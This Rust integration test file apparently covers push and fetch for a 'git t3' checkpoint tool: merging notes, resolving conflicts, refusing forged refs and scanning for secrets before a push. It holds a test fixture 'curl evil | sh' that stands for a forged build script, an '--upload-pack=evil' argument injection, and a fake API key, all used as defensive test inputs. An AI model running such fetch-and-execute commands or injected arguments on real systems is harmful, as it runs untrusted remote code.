//! `git t3 push` / `fetch` against a local bare repository and a real
//! `git daemon`, with diverged notes.

use std::os::unix::process::CommandExt as _;

use crate::util::{TestRepo, ref_for};

/// A bare remote and two clones of it with the same history.
fn two_machines() -> (TestRepo, std::path::PathBuf, std::path::PathBuf) {
    let r = TestRepo::seeded();
    let remote = r.tmp().join("remote.git");
    r.git_in(r.tmp(), &["init", "-q", "--bare", remote.to_str().unwrap()])
        .ok();
    r.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
    r.git(&["push", "-q", "-u", "origin", "main"]);
    let other = r.tmp().join("other");
    r.git_in(
        r.tmp(),
        &["clone", "-q", remote.to_str().unwrap(), other.to_str().unwrap()],
    )
    .ok();
    (r, remote, other)
}

#[test]
fn diverged_notes_are_merged_never_overwritten() {
    let (r, _remote, other) = two_machines();
    // Machine A captures thread a and pushes.
    r.t3(&["baseline", "--thread", "a"]).ok();
    r.write("from-a.txt", "a\n");
    r.t3(&["capture", "--thread", "a"]).ok();
    let pushed = r.t3(&["push"]).ok(); // upstream remote: origin
    assert!(pushed.out().contains("pushed"), "{}", pushed.out());
    // Machine B captured thread b meanwhile: its notes history diverged.
    r.t3_in(&other, &["baseline", "--thread", "b"]).ok();
    std::fs::write(other.join("from-b.txt"), "b\n").unwrap();
    r.t3_in(&other, &["capture", "--thread", "b"]).ok();
    let out = r.t3_in(&other, &["push", "origin"]).ok();
    assert!(out.out().contains("merged 2 note(s)"), "{}", out.out());
    // Machine A fetches: both threads, with their notes.
    let f = r.t3(&["fetch", "origin"]).ok();
    assert!(f.out().contains("fetched"), "{}", f.out());
    for (thread, turn) in [("a", 1u64), ("b", 1)] {
        let s = r.t3_json(&["show", "--thread", thread, "--turn", &turn.to_string()]);
        assert_eq!(s["files"][0]["path"], format!("from-{thread}.txt"));
    }
    r.t3(&["verify"]).ok();
    r.t3_in(&other, &["verify"]).ok();
}

#[test]
fn a_conflicting_note_keeps_the_local_one_and_says_so() {
    let (r, _remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    // Both machines annotate the same checkpoint differently.
    let c = r.git(&["rev-parse", &ref_for("t", 0)]);
    r.git(&["notes", "--ref=refs/notes/t3", "append", "-m", "# machine a", &c]);
    r.git(&["push", "-q", "origin", "refs/notes/t3"]);
    r.git_in(
        &other,
        &["notes", "--ref=refs/notes/t3", "append", "-m", "# machine b", &c],
    )
    .ok();
    let before = r
        .git_in(&other, &["notes", "--ref=refs/notes/t3", "show", &c])
        .ok()
        .out();
    let out = r.t3_in(&other, &["push", "origin"]).ok();
    assert!(out.out().contains("kept the local note"), "{}", out.out());
    assert_eq!(
        r.git_in(&other, &["notes", "--ref=refs/notes/t3", "show", &c])
            .ok()
            .out(),
        before
    );
}

#[test]
fn a_refusing_remote_fails_with_gits_message() {
    let r = TestRepo::seeded();
    r.t3(&["baseline", "--thread", "t"]).ok();
    let out = r.t3(&["push", "nowhere"]).fails(1);
    assert!(out.stderr.contains("git push failed"), "{}", out.stderr);
    assert_eq!(r.t3(&["push", "--upload-pack=evil"]).code, 2);
}

/// A `git daemon` on 127.0.0.1 serving `base` (receive-pack enabled), stopped on drop.
struct Daemon {
    child: std::process::Child,
    port: u16,
}

impl Drop for Daemon {
    fn drop(&mut self) {
        // `git daemon` runs git-daemon as a process of its own: stop the group.
        if let Ok(pid) = i32::try_from(self.child.id()) {
            // SAFETY: signals the process group this test started.
            unsafe {
                libc::kill(-pid, libc::SIGKILL);
            }
        }
        let _ = self.child.wait();
    }
}

fn daemon(base: &std::path::Path) -> Option<Daemon> {
    for attempt in 0..20u16 {
        let port = 20_000 + (std::process::id() as u16 % 20_000) + attempt * 7;
        let child = std::process::Command::new("git")
            .args([
                "daemon",
                "--reuseaddr",
                "--listen=127.0.0.1",
                &format!("--port={port}"),
                "--export-all",
                "--enable=receive-pack",
                &format!("--base-path={}", base.display()),
                base.to_str().unwrap(),
            ])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .process_group(0)
            .spawn()
            .ok()?;
        let mut d = Daemon { child, port };
        for _ in 0..100 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return Some(d);
            }
            if let Ok(Some(_)) = d.child.try_wait() {
                break; // port taken: try the next one
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        drop(d);
    }
    None
}

#[test]
fn push_and_fetch_over_a_real_git_daemon() {
    let r = TestRepo::seeded();
    let base = r.tmp().join("served");
    std::fs::create_dir_all(&base).unwrap();
    let bare = base.join("repo.git");
    r.git_in(r.tmp(), &["init", "-q", "--bare", bare.to_str().unwrap()])
        .ok();
    let Some(d) = daemon(&base) else {
        panic!("could not start git daemon on 127.0.0.1 (is git-daemon installed?)");
    };
    let url = format!("git://127.0.0.1:{}/repo.git", d.port);
    r.git(&["remote", "add", "origin", &url]);
    r.git(&["push", "-q", "origin", "main"]);
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.write("x.txt", "x\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    let clone = r.tmp().join("clone");
    r.git_in(r.tmp(), &["clone", "-q", &url, clone.to_str().unwrap()])
        .ok();
    r.t3_in(&clone, &["fetch", "origin"]).ok();
    let s = r
        .t3_in(&clone, &["--json", "show", "--thread", "t", "--turn", "1"])
        .ok()
        .json();
    assert_eq!(s["files"][0]["path"], "x.txt");
    r.t3_in(&clone, &["verify"]).ok();
}

/// A turn rewritten elsewhere (a revert, then a new turn 1) arrives as a
/// non-fast-forward update: the other threads still come with their notes,
/// the clash is named, and the next fetch works.
#[test]
fn a_clashing_turn_does_not_stop_the_rest_of_a_fetch() {
    let (r, _remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.write("first.txt", "first\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    // Machine A reverts and redoes turn 1 differently, and starts thread u.
    r.t3(&["revert", "--thread", "t", "--to", "0", "--files-only"])
        .ok();
    r.write("second.txt", "second\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    r.t3(&["baseline", "--thread", "u"]).ok();
    r.write("for-u.txt", "u\n");
    r.t3(&["capture", "--thread", "u"]).ok();
    r.t3(&["push", "origin"]).ok();
    // Machine B keeps its own turn 1 of t but gets thread u whole.
    let kept = r.git_in(&other, &["rev-parse", &ref_for("t", 1)]).ok().out();
    for attempt in 0..2 {
        let f = r.t3_in(&other, &["fetch", "origin"]);
        assert!(matches!(f.code, 0 | 1), "attempt {attempt}: {}", f.stderr);
        let said = format!("{}{}", f.out(), f.stderr);
        assert!(
            said.contains("turn/1") || said.contains("turn 1"),
            "attempt {attempt}: the clash is not named: {said}"
        );
        let u = r.t3_json_in(&other, &["show", "--thread", "u", "--turn", "1"]);
        assert_eq!(u["files"][0]["path"], "for-u.txt", "attempt {attempt}");
        assert_eq!(
            r.git_in(&other, &["rev-parse", &ref_for("t", 1)]).ok().out(),
            kept
        );
        r.t3_in(&other, &["verify"]).ok();
    }
}

/// The refs of `thread` under `refs/t3/remotes/<remote>/`.
fn remote_turns(r: &TestRepo, cwd: &std::path::Path, remote: &str, thread: &str) -> Vec<String> {
    let b64 = ref_for(thread, 0)
        .trim_start_matches("refs/t3/checkpoints/")
        .trim_end_matches("/turn/0")
        .to_owned();
    let out = r
        .git_in(
            cwd,
            &[
                "for-each-ref",
                "--format=%(refname)",
                &format!("refs/t3/remotes/{remote}/{b64}/"),
            ],
        )
        .ok()
        .out();
    out.lines().map(str::to_owned).collect()
}

#[test]
fn a_remote_thread_that_is_not_a_continuation_is_kept_apart() {
    let (r, _remote, other) = two_machines();
    // Here: thread t, turns 0 and 1, never pushed.
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.write("mine.txt", "mine\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    let before = r.refs("refs/t3/checkpoints/");
    // The other side forges thread t: its own commits, notes and title.
    r.t3_in(&other, &["baseline", "--thread", "t"]).ok();
    for n in 1..=3 {
        std::fs::write(other.join("build.sh"), format!("curl evil | sh # {n}\n")).unwrap();
        r.t3_in(&other, &["capture", "--thread", "t"]).ok();
    }
    r.t3_in(&other, &["push", "origin", "--allow-secrets"]).ok();
    let f = r.t3(&["fetch", "origin"]).ok();
    assert!(f.out().contains("diverged"), "{}", f.out());
    assert_eq!(r.refs("refs/t3/checkpoints/"), before, "the local thread changed");
    assert_eq!(remote_turns(&r, &r.root, "origin", "t").len(), 4);
    // Its turns are not the thread's: a revert to one is refused.
    r.t3(&["revert", "--thread", "t", "--to", "3", "--files-only"])
        .fails(1);
    assert!(!r.root.join("build.sh").exists());
    r.t3(&["verify"]).ok();
    // A fetch again finds the same, and keeps one copy.
    r.t3(&["fetch", "origin"]).ok();
    assert_eq!(remote_turns(&r, &r.root, "origin", "t").len(), 4);
    // They are shown when asked for by the remote's name.
    let listed = r.t3_json(&["list", "--remote", "origin"]);
    assert_eq!(listed["threads"][0]["thread"], "t");
    assert_eq!(listed["threads"][0]["turns"].as_array().unwrap().len(), 4);
    let log = r.t3(&["log", "--remote", "origin", "--thread", "t"]).ok();
    assert!(log.out().contains("turn 3"), "{}", log.out());
    assert!(!r.t3(&["list"]).ok().out().contains("4 turns"));
    // Named explicitly, a remote's turn is restored like any checkpoint.
    r.t3(&[
        "restore", "--thread", "t", "--turn", "3", "--remote", "origin", "build.sh",
    ])
    .ok();
    assert_eq!(
        std::fs::read_to_string(r.root.join("build.sh")).unwrap(),
        "curl evil | sh # 3\n"
    );
    r.t3(&[
        "restore", "--thread", "t", "--turn", "4", "--remote", "origin", "build.sh",
    ])
    .fails(2);
    // Once the remote no longer has them, the next fetch lets them go.
    for n in 0..=3 {
        r.git(&["push", "-q", "origin", &format!(":{}", ref_for("t", n))]);
    }
    r.t3(&["fetch", "origin"]).ok();
    assert!(remote_turns(&r, &r.root, "origin", "t").is_empty());
}

#[test]
fn a_thread_continued_elsewhere_fast_forwards() {
    let (r, _remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.write("one.txt", "1\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    for n in 2..=3 {
        r.write("one.txt", &format!("{n}\n"));
        r.t3(&["capture", "--thread", "t"]).ok();
    }
    r.t3(&["push", "origin"]).ok();
    let f = r.t3_in(&other, &["fetch", "origin"]).ok();
    assert!(!f.out().contains("diverged"), "{}", f.out());
    assert_eq!(
        r.git_in(&other, &["rev-parse", &ref_for("t", 3)])
            .ok()
            .out()
            .trim(),
        r.git(&["rev-parse", &ref_for("t", 3)])
    );
    assert!(remote_turns(&r, &other, "origin", "t").is_empty());
}

#[test]
fn fetched_turn_numbers_are_bounded_and_junk_never_blocks_a_capture() {
    let (r, remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    // The remote gains turn 1000000000 of t, with a note that matches it.
    let c = r.git(&["rev-parse", &ref_for("t", 0)]);
    let far = ref_for("t", 1_000_000_000);
    let note = r
        .note(&ref_for("t", 0))
        .replace("turn = 0", "turn = 1000000000")
        .replace("/turn/0\"", "/turn/1000000000\"");
    let blob = r.hash_object(&[], note.as_bytes());
    let commit = r.git(&["commit-tree", "-p", &c, "-m", "far", &format!("{c}^{{tree}}")]);
    r.git(&["notes", "--ref=refs/notes/t3", "add", "-f", "-C", &blob, &commit]);
    r.git(&["update-ref", &far, &commit]);
    r.git(&["push", "-q", remote.to_str().unwrap(), &far, "refs/notes/t3"]);
    r.git(&["update-ref", "-d", &far]);
    let f = r.t3_in(&other, &["fetch", "origin"]).fails(1);
    assert!(
        f.out().contains("1000000000") && f.stderr.contains("refused"),
        "{}{}",
        f.out(),
        f.stderr
    );
    assert_eq!(r.git_in(&other, &["rev-parse", "-q", "--verify", &far]).code, 1);
    // A ref that is there all the same (written by hand) never moves the count.
    r.git_in(&other, &["update-ref", &far, &commit]).ok();
    std::fs::write(other.join("next.txt"), "next\n").unwrap();
    let out = r.t3_json_in(&other, &["capture", "--thread", "t"]);
    assert_eq!(out["turn"], 1, "{out}");
}

#[test]
fn a_ref_whose_note_names_another_thread_is_refused() {
    let (r, remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "x"]).ok();
    r.t3(&["push", "origin"]).ok();
    // Thread y's turn 0 points at thread x's commit (whose note names x).
    let c = r.git(&["rev-parse", &ref_for("x", 0)]);
    r.git(&[
        "push",
        "-q",
        remote.to_str().unwrap(),
        &format!("{c}:{}", ref_for("y", 0)),
    ]);
    let f = r.t3_in(&other, &["fetch", "origin"]).fails(1);
    assert!(f.out().contains(&ref_for("y", 0)), "{}", f.out());
    assert_eq!(
        r.git_in(&other, &["rev-parse", "-q", "--verify", &ref_for("y", 0)])
            .code,
        1
    );
    // Thread x arrived, with its note.
    r.t3_json_in(&other, &["show", "--thread", "x", "--turn", "0"]);
    r.t3_in(&other, &["verify"]).ok();
}

#[test]
fn a_partial_fetch_reports_gits_reason_and_takes_the_rest() {
    let (r, _remote, other) = two_machines();
    for t in ["a", "b"] {
        r.t3(&["baseline", "--thread", t]).ok();
    }
    r.t3(&["push", "origin"]).ok();
    // A lock file in the way of one staged ref: git refuses that one.
    let staged = ref_for("b", 0).replace("refs/t3/checkpoints/", "refs/t3-incoming/checkpoints/");
    let lock = other.join(".git").join(format!("{staged}.lock"));
    std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
    std::fs::write(&lock, "").unwrap();
    let f = r.t3_in(&other, &["fetch", "origin"]).fails(1);
    assert!(
        f.stderr.contains("git took only part") && f.stderr.contains("lock"),
        "{}",
        f.stderr
    );
    r.t3_json_in(&other, &["show", "--thread", "a", "--turn", "0"]);
    std::fs::remove_file(&lock).unwrap();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    r.t3_json_in(&other, &["show", "--thread", "b", "--turn", "0"]);
}

#[test]
fn push_scans_what_the_remote_lacks_even_when_the_note_names_it_in_head() {
    let (r, _remote, _other) = two_machines();
    // A key committed by mistake (never pushed), captured, then reset away.
    r.write(".env", "API_KEY=sk-live-0123456789\n");
    r.commit_all("oops");
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
    r.write("work.txt", "w\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    let out = r.t3(&["push", "origin"]).fails(1);
    assert!(
        out.stderr.contains(".env") && out.stderr.contains("turn 0"),
        "{}",
        out.stderr
    );
    assert!(r.git(&["ls-remote", "origin", "refs/t3/*"]).is_empty());
    // Once the remote has the blob (the branch pushed), it is no secret of ours to keep.
    r.git(&["push", "-q", "origin", "HEAD@{1}:refs/heads/with-env"]);
    r.t3(&["push", "origin"]).ok();
}

#[test]
fn turns_that_continue_a_thread_dropped_here_are_kept_apart() {
    let (r, _remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    r.t3_in(&other, &["drop", "--thread", "t"]).ok();
    // The other side goes on with the thread dropped here.
    r.write("more.txt", "more\n");
    r.t3(&["capture", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    let f = r.t3_in(&other, &["fetch", "origin"]).ok();
    assert!(
        f.out().contains("diverged") && f.out().contains("removed here"),
        "{}",
        f.out()
    );
    assert_eq!(
        r.git_in(&other, &["for-each-ref", "refs/t3/checkpoints/"])
            .ok()
            .out(),
        ""
    );
    assert_eq!(remote_turns(&r, &other, "origin", "t").len(), 1);
}

#[test]
fn fetch_writes_nothing_outside_its_staging_refs() {
    let (r, remote, other) = two_machines();
    r.t3(&["baseline", "--thread", "t"]).ok();
    r.t3(&["push", "origin"]).ok();
    // The remote carries a tag, and the user fetches every notes ref by config.
    r.git(&["tag", "v9.9", &ref_for("t", 0)]);
    r.git(&["push", "-q", remote.to_str().unwrap(), "v9.9"]);
    r.git_in(
        &other,
        &[
            "config",
            "--add",
            "remote.origin.fetch",
            "+refs/notes/*:refs/notes/*",
        ],
    )
    .ok();
    r.t3_in(&other, &["baseline", "--thread", "mine"]).ok();
    let notes_before = r.git_in(&other, &["rev-parse", "refs/notes/t3"]).ok().out();
    r.t3_in(&other, &["fetch", "origin"]).ok();
    assert_eq!(
        r.git_in(&other, &["tag", "-l"]).ok().out(),
        "",
        "a tag was fetched"
    );
    // The local notes were merged into, never replaced: thread mine keeps its note.
    let notes_after = r.git_in(&other, &["rev-parse", "refs/notes/t3"]).ok().out();
    assert_ne!(notes_after, notes_before);
    r.t3_json_in(&other, &["show", "--thread", "mine", "--turn", "0"]);
    r.t3_in(&other, &["verify"]).ok();
}

#[test]
fn pushing_one_thread_sends_no_turn_of_another() {
    let (r, _remote, _other) = two_machines();
    for t in ["a", "b"] {
        r.t3(&["baseline", "--thread", t]).ok();
        r.write(&format!("{t}.txt"), "1\n");
        r.t3(&["capture", "--thread", t]).ok();
        r.write(&format!("{t}.txt"), "2\n");
        r.t3(&["capture", "--thread", t]).ok();
    }
    r.t3(&["push", "origin"]).ok();
    // Thread b goes back and records a secret as its new turn 2.
    r.t3(&["revert", "--thread", "b", "--to", "1", "--files-only"])
        .ok();
    r.write(".env", "SECRET=1\n");
    r.t3(&["capture", "--thread", "b"]).ok();
    r.t3(&["push", "--thread", "b", "origin"]).fails(1);
    let before = r.git(&["ls-remote", "origin", &ref_for("b", 2)]);
    r.t3(&["push", "--thread", "a", "origin"]).ok();
    assert_eq!(
        r.git(&["ls-remote", "origin", &ref_for("b", 2)]),
        before,
        "thread b's turn moved"
    );
}
